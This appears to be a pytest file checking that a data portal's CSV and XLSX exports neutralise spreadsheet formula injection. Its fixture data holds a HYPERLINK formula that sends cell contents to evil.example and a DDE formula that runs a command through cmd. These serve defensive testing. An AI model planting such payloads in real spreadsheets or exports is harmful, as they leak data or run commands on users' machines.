"""Downloads a spreadsheet opens run no formulas (OWASP's rule against CSV injection): in CSV
and XLSX a text value or column name that starts with `=`, `+`, `-`, `@`, tab or CR gets a
leading apostrophe and numbers stay numbers; JSON and Parquet keep every value as loaded."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import duckdb
import pytest
import sqlalchemy as sa
from python_calamine import CalamineWorkbook

from torget.datastore.export import inert
from torget.datastore.load import load_local
from torget.settings import Settings

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klicka")'
DDE = "=cmd|' /C calc'!A0"
# One row per case; `antal` is a number column with a negative number.
SOURCE = [
    ["=1+2", "antal", "telefon", "not"],
    [FORMULA, "-5", "+46 8 123 45 67", "@SUM(A1:A2)"],
    [DDE, "7", "08-123 45 67", "-minus"],
    ["vanlig", "12", "\tflik", "+plus"],
]
ORIGINAL = [
    {"=1+2": FORMULA, "antal": -5, "telefon": "+46 8 123 45 67", "not": "@SUM(A1:A2)"},
    {"=1+2": DDE, "antal": 7, "telefon": "08-123 45 67", "not": "-minus"},
    {"=1+2": "vanlig", "antal": 12, "telefon": "\tflik", "not": "+plus"},
]
INERT = [
    ["'=1+2", "antal", "telefon", "not"],
    ["'" + FORMULA, "-5", "'+46 8 123 45 67", "'@SUM(A1:A2)"],
    ["'" + DDE, "7", "08-123 45 67", "'-minus"],
    ["vanlig", "12", "'\tflik", "'+plus"],
]


@pytest.fixture
def table(world: Any, settings: Settings, engine: sa.Engine, tmp_path: Path) -> str:
    from tests.conftest import CLASSIFIED, dataset_payload

    editor = world.auth("editor")
    created = world.client.post("/api/datasets", json=dataset_payload(), headers=editor)
    assert created.status_code == 201, created.text
    dataset_id, dist_id = created.json()["id"], str(created.json()["distributions"][0]["id"])
    source = tmp_path / "farlig.csv"
    with source.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out, delimiter=";").writerows(SOURCE)
    load_local(settings, engine, dist_id, source, "csv")
    # Issue 13 B: the guard finds the column of phone numbers; an admin signs it off.
    world.client.post(
        f"/api/distributions/{dist_id}/personal-data-signoff",
        json={"justification": "Made-up numbers of a test."}, headers=world.auth("root"),
    ).raise_for_status()  # fmt: skip
    url = f"/api/datasets/{dataset_id}"
    world.client.put(f"{url}/classification", json=CLASSIFIED, headers=editor).raise_for_status()
    world.client.patch(url, json={"state": "published"}, headers=editor).raise_for_status()
    return dist_id


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_downloads_neutralise_formulas(world: Any, table: str) -> None:
    client = world.client
    assert client.get(f"/api/datastore/{table}").json()["columns"][1]["type"] == "BIGINT"
    text = client.get(
        f"/api/datastore/{table}/rows.csv", params={"fields": "=1+2,antal,telefon,not"}
    ).text
    assert _csv(text) == INERT
    whole = _csv(client.get(f"/api/datastore/{table}/rows.csv").text)
    assert whole[0] == ["_id", *INERT[0]] and [r[1:] for r in whole[1:]] == INERT[1:]
    dump = client.get(f"/datastore/dump/{table}")  # CKAN's DataStore dump
    assert dump.status_code == 200 and [r[1:] for r in _csv(dump.text)] == INERT


def test_xlsx_downloads_hold_no_formulas(world: Any, table: str, tmp_path: Path) -> None:
    body = world.client.get(f"/api/datastore/{table}/rows.xlsx").content
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    (tmp_path / "t.xlsx").write_bytes(body)
    rows = CalamineWorkbook.from_path(str(tmp_path / "t.xlsx")).get_sheet_by_index(0).to_python()
    assert [r[1:] for r in rows] == [
        INERT[0],
        *[[r[0], float(r[1]), *r[2:]] for r in INERT[1:]],
    ]
    assert isinstance(rows[1][2], float) and rows[1][2] == -5  # a number, not text


def test_json_and_parquet_keep_the_original_values(world: Any, table: str, tmp_path: Path) -> None:
    base = f"/api/datastore/{table}/rows"
    assert [
        {k: v for k, v in r.items() if k != "_id"} for r in world.client.get(f"{base}.json").json()
    ] == ORIGINAL
    (tmp_path / "t.parquet").write_bytes(world.client.get(f"{base}.parquet").content)
    with duckdb.connect() as con:
        found = con.execute(
            f"SELECT * EXCLUDE (_id) FROM '{tmp_path / 't.parquet'}' ORDER BY antal"
        ).fetchall()
    assert found == [tuple(r.values()) for r in ORIGINAL]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert inert(start + "1") == "'" + start + "1"
    assert inert("1" + start) == "1" + start
